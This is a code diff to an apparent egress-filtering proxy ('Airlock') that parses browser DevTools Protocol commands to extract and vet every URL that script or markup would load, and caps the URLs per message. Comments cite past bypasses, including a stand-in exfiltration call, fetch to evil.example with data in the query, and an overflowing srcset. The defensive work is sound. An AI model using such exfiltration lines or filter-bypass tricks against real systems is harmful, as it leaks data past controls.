@@ -36,6 +36,7 @@
 
 import { appendAll } from '../lib/arrays.ts';
 import { scanJson } from './json-readings.ts';
+import { codeUrls, markupParts, MAX_CODE_URLS } from './cdp-code.ts';
 import { consoleRead, mysqlCommandLine, otherConsoleLine } from './console-lines.ts';
 import { unreadSqlEffect } from './adapters/sql-clickhouse.ts';
 import { reachesOutside, sqlPrefixState } from './adapters/sql.ts';
@@ -757,6 +758,27 @@ const cdpLoads: Record<string, string> = {
 
 const cdpMethod = /^[A-Z][A-Za-z]*\.[a-z][A-Za-z]*$/;
 
+/**
+ * Commands that give the browser code (or a style sheet, a text node a style or script may be) to
+ * run, by the parameters that hold it: the URLs written in it are loads (`codeUrls`, twentieth
+ * pass: `Runtime.evaluate` of `fetch('https://evil.example/?d=…')` was relayed undecided).
+ * `callFunctionOn`'s `arguments` count: Puppeteer passes `page.evaluate`'s values there.
+ */
+const cdpCode: Record<string, readonly string[]> = {
+  'Runtime.evaluate': ['expression'], 'Runtime.callFunctionOn': ['functionDeclaration', 'arguments'], 'Runtime.compileScript': ['expression'],
+  'Page.addScriptToEvaluateOnNewDocument': ['source'], 'Page.addScriptToEvaluateOnLoad': ['scriptSource'], 'Debugger.evaluateOnCallFrame': ['expression'],
+  'Debugger.setScriptSource': ['scriptSource'], 'DOM.setNodeValue': ['value'], 'CSS.setStyleSheetText': ['text'], 'CSS.setStyleTexts': ['edits'], 'CSS.addRule': ['ruleText'],
+};
+/** Commands that give the browser markup to parse, by the parameter that holds it. */
+const cdpMarkup: Record<string, string> = { 'DOM.setOuterHTML': 'outerHTML', 'Page.setDocumentContent': 'html' };
+/**
+ * XML namespace names code passes to `createElementNS` (Playwright's injected script names SVG's):
+ * identifiers, never loaded.
+ */
+const namespaceNames = new Set(['http://www.w3.org/2000/svg', 'http://www.w3.org/1999/xhtml', 'http://www.w3.org/1998/Math/MathML', 'http://www.w3.org/1999/xlink', 'http://www.w3.org/XML/1998/namespace', 'http://www.w3.org/2000/xmlns/']);
+/** Distinct URLs one CDP message may have the browser load; past it the message is refused. */
+export const MAX_CDP_LOADS = 16;
+
 /** Attributes whose value is a URL the page loads (or goes to, or posts to). */
 const urlAttributes = new Set(['src', 'srcset', 'href', 'xlink:href', 'action', 'formaction', 'poster', 'data', 'background', 'ping', 'cite', 'longdesc', 'manifest', 'icon', 'codebase', 'archive', 'lowsrc', 'dynsrc']);
 
@@ -777,6 +799,22 @@ export function cdpLoadsOf(text: string): { urls: string[]; refused?: string } {
       const inner = (params as { message?: unknown }).message;
       if (typeof inner === 'string') readings(inner).forEach((r) => visit(r, depth + 1));
       return;
+    }
+    const code = cdpCode[method];
+    if (code) {
+      for (const k of code) {
+        const v = (params as Record<string, unknown>)[k];
+        if (v !== undefined) written(method, typeof v === 'string' ? v : JSON.stringify(v) ?? '');
+      }
+      return;
+    }
+    const markup = cdpMarkup[method];
+    if (markup) {
+      const v = (params as Record<string, unknown>)[markup];
+      if (typeof v !== 'string') return;
+      const parts = markupParts(v);
+      for (const [name, value] of parts.attributes) attribute(method, name, value);
+      return void written(method, parts.text);
     }
     const key = cdpLoads[method];
     const value = key === undefined ? undefined : (params as Record<string, unknown>)[key];
@@ -800,6 +838,13 @@ export function cdpLoadsOf(text: string): { urls: string[]; refused?: string } {
       else if (/^[a-z][a-z0-9+.-]*:/i.test(v)) load(method, v);
     }
   };
+  // Code or markup: each URL written in it (a WebSocket's judged as its http twin); a text naming
+  // more than Airlock decides is refused whole.
+  const written = (method: string, text: string): void => {
+    const found = codeUrls(text);
+    if (found.length > MAX_CODE_URLS) refused = `${method} names more than ${MAX_CODE_URLS} URLs: more than Airlock decides in one command`;
+    for (const u of found) if (!namespaceNames.has(u)) load(method, u.replace(/^ws(s?):/i, 'http$1:'));
+  };
   const load = (method: string, value: string): void => {
     let u: URL;
     try {
@@ -812,7 +857,11 @@ export function cdpLoadsOf(text: string): { urls: string[]; refused?: string } {
     else if (u.protocol !== 'about:') refused = `${method} to a ${u.protocol} URL: what it runs or renders is not read`;
   };
   for (const r of readings(text)) visit(r, 0);
-  return refused ? { urls, refused } : { urls };
+  // Each distinct URL is decided; a message naming more than are decided is refused (the 17th
+  // candidate of a `srcset` after sixteen allowed ones was relayed undecided).
+  const distinct = [...new Set(urls)];
+  if (!refused && distinct.length > MAX_CDP_LOADS) refused = `a command naming ${distinct.length} URLs for the browser to load: more than Airlock decides in one message (${MAX_CDP_LOADS})`;
+  return refused ? { urls: distinct, refused } : { urls: distinct };
 }
 
 /** A JSON text as a server reads it (last key wins), and as one reading the first key of a pair. */
@@ -958,7 +1007,7 @@ export class JsonMessagesReader implements TunnelSqlReader {
       // CDP's methods are `Domain.command`: only a message naming one (or escaping) is parsed again.
       const loads = /"method"\s*:\s*"[A-Z]/.test(text) || text.includes('\\u') ? cdpLoadsOf(text) : { urls: [] };
       if (loads.refused) return { statements: [], refused: loads.refused };
-      if (loads.urls.length) return { statements: loads.urls.slice(0, 16).map((target) => ({ protocol: 'cdp', message: 'navigation', body: {}, target })) };
+      if (loads.urls.length) return { statements: loads.urls.map((target) => ({ protocol: 'cdp', message: 'navigation', body: {}, target })) };
     }
     // Most messages name no SQL word at all: nothing more to read (a JSON escape may spell one),
     // unless they go on a statement a console holds or start with one of its commands (`\! …`).
